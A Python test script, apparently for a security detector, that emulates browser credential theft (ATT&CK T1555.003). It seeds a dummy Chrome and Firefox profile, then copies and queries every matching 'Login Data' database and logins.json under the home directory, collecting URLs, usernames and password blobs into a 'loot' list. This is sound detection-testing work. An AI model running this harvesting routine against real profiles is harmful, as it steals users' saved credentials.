# technique: T1555.003 T1074.001
"""Browser credential store theft (T1555.003).

Every Python infostealer (W4SP, Creal, BlankGrabber…) copies Chrome's
"Login Data" and "Cookies" SQLite files to a temp location (the originals
are locked while the browser runs), opens the copy with sqlite3 and selects
origin_url, username_value, password_value. The profile under HOME is
created first with a real SQLite schema since HOME is empty in the test.
Firefox's logins.json and key4.db are read too.

A good detector raises a high alert: a browser's credential store is read by
a process that is not the browser.
"""
import glob, os, shutil, sqlite3, tempfile

home = os.path.expanduser("~")
prof = os.path.join(home, ".config", "google-chrome", "Default")
os.makedirs(prof, exist_ok=True)
db = sqlite3.connect(os.path.join(prof, "Login Data"))
db.execute("CREATE TABLE IF NOT EXISTS logins (origin_url TEXT, username_value TEXT, password_value BLOB)")
db.execute("INSERT INTO logins VALUES ('https://example.com','alice',x'763130aabb')"); db.commit(); db.close()
ff = os.path.join(home, ".mozilla", "firefox", "abcd.default-release"); os.makedirs(ff, exist_ok=True)
open(os.path.join(ff, "logins.json"), "w").write('{"logins": []}')

loot = []
tmpd = tempfile.mkdtemp()
for path in glob.glob(os.path.join(home, ".config", "*", "*", "Login Data")):
    cp = os.path.join(tmpd, "ld.db")
    shutil.copy2(path, cp)
    con = sqlite3.connect(cp)
    loot += con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    con.close()
for path in glob.glob(os.path.join(home, ".mozilla", "firefox", "*", "logins.json")):
    loot.append(open(path).read())
shutil.rmtree(tmpd)
